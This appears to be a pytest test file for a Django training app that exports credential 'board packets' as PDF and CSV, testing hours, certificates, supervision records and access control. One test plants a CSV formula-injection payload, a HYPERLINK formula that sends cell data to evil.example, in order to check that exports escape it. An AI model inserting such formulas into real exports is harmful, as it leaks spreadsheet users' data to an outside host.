"""The board packet (PDF and CSV) of a trainee and a credential: the legal name, the framework,
hours by the board's requirements as the readiness page computes them, every certificate with the
provider's approval number from that board, and signed-off practice and supervision; downloaded by
the trainee, or by whoever may see their readiness (of what they may see), and a 404 for others."""
import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from certificates.models import Certificate
from courses.display import FORMULA_PREFIXES
from certificates.selectors import verification_url
from courses.display import hours_text
from programs.models import BoardApproval, LegalName, ProgramSettings
from programs.roles import Role, role_grant
from readiness import packet
from readiness.models import CredentialFramework, FrameworkRequirement
from readiness.selectors import readiness
from supervision import services as supervision
from supervision.models import PracticeEntry, SupervisionFormat
from tests import factories
from tests.certificates.conftest import complete_course
from tests.factories import sites as factories_sites
from tests.factories import supervision as fs

pytestmark = pytest.mark.django_db

H = 60
SLUG = "ny-crpa-2022"
QUERY = {"framework": SLUG}
PDF, CSV = reverse("readiness:packet_pdf"), reverse("readiness:packet_csv")


def trainee_urls(user):
    return reverse("readiness:trainee_packet_pdf", args=[user.pk]), reverse("readiness:trainee_packet_csv", args=[user.pk])


@pytest.fixture
def world(db, domain, django_capture_on_commit_callbacks):
    framework = CredentialFramework.objects.create(
        slug=SLUG, family="ny-crpa", version="2022", effective_from=date(2022, 4, 1), name="New York CRPA",
        board="NY OASAS", credential="Certified Recovery Peer Advocate", source_title="OASAS CRPA standards",
        source_url="https://oasas.ny.gov/crpa", training_minutes=46 * H, experience_minutes=500 * H,
        supervision_minutes=25 * H,
    )
    FrameworkRequirement.objects.create(framework=framework, label="Advocacy", minutes=10 * H, domain=domain)
    site = factories.default_site()
    program = ProgramSettings.for_site(site)
    program.provider_name, program.provider_number = "Harbor Recovery Alliance", "PROV-1"
    program.save()
    factories_sites.board_approval(site, board="ny-crpa", name="NY OASAS", number="CRPA-0042")
    course = factories.make_course(domain=domain, title="Recovery Coach Training")
    ana = factories.make_user(first_name="Ana", last_name="Gómez")
    LegalName.objects.create(user=ana, name="Ana María Gómez Ruiz")
    with django_capture_on_commit_callbacks(execute=True):
        complete_course(ana, course)
    supervisor = fs.make_supervisor(site, first_name="Sue", last_name="Visor")
    LegalName.objects.create(user=supervisor, name="Susan Q. Visor")
    fs.assign(supervisor, ana, site)
    today = timezone.localdate()
    entry = supervision.practice_entry_create(
        trainee=ana, site=site, performed_on=today - timedelta(days=1), minutes=90, domain=domain,
        service_type=PracticeEntry.ServiceType.DIRECT, description="Peer support group",
    )
    supervision.practice_entry_decide(entry=entry, reviewer=supervisor, approve=True)
    supervision.supervision_session_log(
        supervisor=supervisor, site=site, trainees=[ana], held_on=today - timedelta(days=2), minutes=60,
        format=SupervisionFormat.INDIVIDUAL, domains=[domain],
    )
    return {"framework": framework, "site": site, "course": course, "ana": ana, "supervisor": supervisor,
            "certificate": Certificate.objects.get(enrollment__user=ana), "today": today, "domain": domain}


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _pdf_text(response) -> str:
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def _section(rows, title):
    """The rows of one section of the CSV, its column headings first."""
    start = rows.index([title]) + 1
    end = next((i for i in range(start, len(rows)) if rows[i] == []), len(rows))
    return rows[start:end]


def test_the_csv_states_everything_the_board_asks(client, world):
    ana, certificate, today = world["ana"], world["certificate"], world["today"]
    client.force_login(ana)
    response = client.get(CSV, QUERY)
    assert response["Content-Disposition"] == f'attachment; filename="board-packet-{SLUG}-{ana.pk}.csv"'
    rows = _csv(response)
    assert rows[0] == ["Board application packet"]
    facts = {row[0]: row[1] for row in rows[1:11]}
    assert facts["Name"] == "Ana María Gómez Ruiz"
    assert (facts["Credential"], facts["Board"], facts["Version"]) == ("New York CRPA", "NY OASAS", "2022")
    assert (facts["In effect from"], facts["Source address"]) == ("2022-04-01", "https://oasas.ny.gov/crpa")

    # Hours by the board's requirements: the readiness figures, line by line.
    hours = _section(rows, "Hours by requirement")
    result = readiness(user=ana, framework=world["framework"])
    assert hours[0] == ["Requirement", "What counts", "Hours earned", "Hours required", "Status"]
    assert [row[:4] for row in hours[1:-1]] == [
        [line.label, line.detail, hours_text(line.earned), hours_text(line.required)] for line in result.lines
    ]
    assert [row[0] for row in hours[1:-1]] == ["Training hours", "Advocacy", "Experience hours", "Supervision hours"]
    assert hours[1][2:] == ["0.8", "46.0", "Missing 45.2 h"]
    assert hours[3][2:4] == ["1.5", "500.0"] and hours[4][2:4] == ["1.0", "25.0"]

    courses = _section(rows, "Courses and certificates")
    assert courses[1:] == [[
        "Recovery Coach Training", "Harbor Recovery Alliance", "CRPA-0042", certificate.completed_on.isoformat(), "0.8",
        certificate.number, verification_url(certificate),
    ]]
    activities = _section(rows, "Supervised practice and supervision")
    assert activities[0] == ["Kind", "Date", "Hours", "Description", "Signed off by", "Signed off on"]
    assert activities[1:] == [
        ["Supervision", (today - timedelta(days=2)).isoformat(), "1.0",
         f"Individual supervision on {today - timedelta(days=2):%Y-%m-%d}", "Susan Q. Visor", today.isoformat()],
        ["Practice hours", (today - timedelta(days=1)).isoformat(), "1.5", "Practice (Direct service): Peer support group",
         "Susan Q. Visor", today.isoformat()],
    ]


def test_the_figures_match_the_readiness_page(client, world):
    client.force_login(world["ana"])
    page = client.get(reverse("readiness:mine"), QUERY).content.decode()
    hours = _section(_csv(client.get(CSV, QUERY)), "Hours by requirement")
    for label, _detail, earned, required, _status in hours[1:-1]:
        assert f"{earned} of {required} h" in page, label
    # The page links to both files of the credential it shows.
    assert f'href="{PDF}?framework={SLUG}"' in page and f'href="{CSV}?framework={SLUG}"' in page


def test_the_pdf_states_the_same(client, world):
    certificate = world["certificate"]
    client.force_login(world["ana"])
    response = client.get(PDF, QUERY)
    assert response["Content-Disposition"] == f'attachment; filename="board-packet-{SLUG}-{world["ana"].pk}.pdf"'
    text = _pdf_text(response)
    for expected in ("BOARD APPLICATION PACKET", "New York CRPA", "Ana María Gómez Ruiz", "NY OASAS",
                     "Certified Recovery Peer Advocate", "OASAS CRPA standards", "Hours by requirement",
                     "Missing 45.2 h", "Recovery Coach Training", "Harbor Recovery Alliance", "CRPA-0042",
                     certificate.number, "Peer support group", "Susan Q. Visor", "Supervision: 1.0 h in total",
                     "Practice hours: 1.5 h in total"):
        assert expected in text, expected
    # A long address may wrap inside its cell.
    assert verification_url(certificate) in text.replace(" ", "")


def test_the_approval_number_comes_from_the_certificate_then_the_site_then_the_provider_number(world):
    ana, framework, certificate = world["ana"], world["framework"], world["certificate"]

    def number():
        return packet.packet_data(user=ana, framework=framework).courses[0].approval_number

    BoardApproval.objects.filter(board="ny-crpa").update(approval_number="CRPA-2030")
    assert number() == "CRPA-0042"  # frozen on the certificate
    Certificate.objects.filter(pk=certificate.pk).update(approvals=[["IC&RC", "PR-7", None, "icrc-peer-recovery"]])
    assert number() == "CRPA-2030"  # not frozen for this board: the site's current approval
    BoardApproval.objects.all().delete()
    assert number() == "PROV-1"  # no approval from this board: the provider number


def test_another_trainee_or_an_unrelated_site_admin_gets_a_404(client, world):
    ana = world["ana"]
    other = factories.make_user(first_name="Sam", last_name="Other")
    admin_b = factories.make_user(first_name="Bea", last_name="Admin")
    role_grant(user=admin_b, site=factories_sites.second_site(), role=Role.SITE_ADMIN)
    for person in (other, admin_b):
        client.force_login(person)
        for url in trainee_urls(ana):
            assert client.get(url, QUERY).status_code == 404, (person, url)
        # Their own packet is theirs alone.
        own = client.get(CSV, QUERY).content.decode()
        assert "Ana María" not in own and world["certificate"].number not in own
    client.logout()
    for url in (PDF, CSV, *trainee_urls(ana)):
        response = client.get(url, QUERY)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_an_unknown_credential_is_a_404(client, world):
    client.force_login(world["ana"])
    for url in (PDF, CSV, *trainee_urls(world["ana"])):
        assert client.get(url, {"framework": "no-such-credential"}).status_code == 404
    assert client.post(PDF, QUERY).status_code == 405


def test_the_supervisor_and_the_site_admin_get_what_they_may_see(client, world, django_capture_on_commit_callbacks):
    """Like the readiness page: the records of their site only, unless the trainee shares the others."""
    ana, certificate = world["ana"], world["certificate"]
    site_b = factories_sites.second_site()
    course_b = factories_sites.make_course_in(site_b, domain=world["domain"], title="Course of B")
    with django_capture_on_commit_callbacks(execute=True):
        complete_course(ana, course_b)
    elsewhere = Certificate.objects.get(enrollment__course=course_b)
    site_admin = factories.make_user(first_name="Ada", last_name="Admin")
    role_grant(user=site_admin, site=world["site"], role=Role.SITE_ADMIN)

    client.force_login(ana)
    assert elsewhere.number in client.get(CSV, QUERY).content.decode()
    for viewer in (world["supervisor"], site_admin):
        client.force_login(viewer)
        pdf_url, csv_url = trainee_urls(ana)
        rows = _csv(client.get(csv_url, QUERY))
        numbers = [row[5] for row in _section(rows, "Courses and certificates")[1:]]
        assert numbers == [certificate.number], viewer
        assert _section(rows, "Hours by requirement")[1][2] == "0.8"  # site B's hours are not theirs to see
        text = _pdf_text(client.get(pdf_url, QUERY))
        assert certificate.number in text and elsewhere.number not in text
        # The trainee's page links to the trainee's packet.
        page = client.get(reverse("readiness:trainee", args=[ana.pk]), QUERY).content.decode()
        assert f'href="{pdf_url}?framework={SLUG}"' in page


def test_packet_csv_neutralises_formulas(client, world):
    LegalName.objects.filter(user=world["ana"]).update(name='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    Certificate.objects.filter(pk=world["certificate"].pk).update(course_title="+course", provider_name="@provider")
    client.force_login(world["ana"])
    rows = _csv(client.get(CSV, QUERY))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in cells
    assert "'+course" in cells and "'@provider" in cells
